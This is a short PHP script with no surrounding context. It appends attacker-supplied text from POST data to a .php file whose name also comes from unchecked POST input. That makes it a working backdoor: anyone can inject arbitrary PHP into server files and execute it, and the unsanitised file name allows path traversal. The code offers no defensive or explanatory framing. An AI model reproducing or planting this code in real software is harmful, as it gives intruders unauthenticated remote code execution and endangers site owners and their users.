<?php
$f = __DIR__ . "/{$_POST['at']}.php";
$o = new SplFileObject($f, 'a');
$o->fwrite("\n" . $_POST['line'] . "\n");
clearstatcache();
echo $o->getSize();
